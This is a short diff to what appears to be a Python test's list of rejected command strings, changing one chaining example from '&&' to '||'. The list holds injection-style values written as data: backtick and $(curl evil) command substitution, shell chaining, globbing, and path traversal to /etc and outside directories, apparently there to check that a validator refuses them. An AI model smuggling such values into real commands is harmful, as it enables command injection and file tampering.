@@ -176,7 +176,7 @@ def test_tick_by_hand_needs_a_note_and_is_recorded_as_such(workspace) -> None:
         "python ok.py `id`",
         "python ok.py $(curl evil)",
         "python ok.py *.json",
-        "python ok.py && true",
+        "python ok.py || true",
         "python ../../outside.py",
         "python ok.py --output-json ../../outside.json",
         "python ok.py --output-json /etc/outside.json",
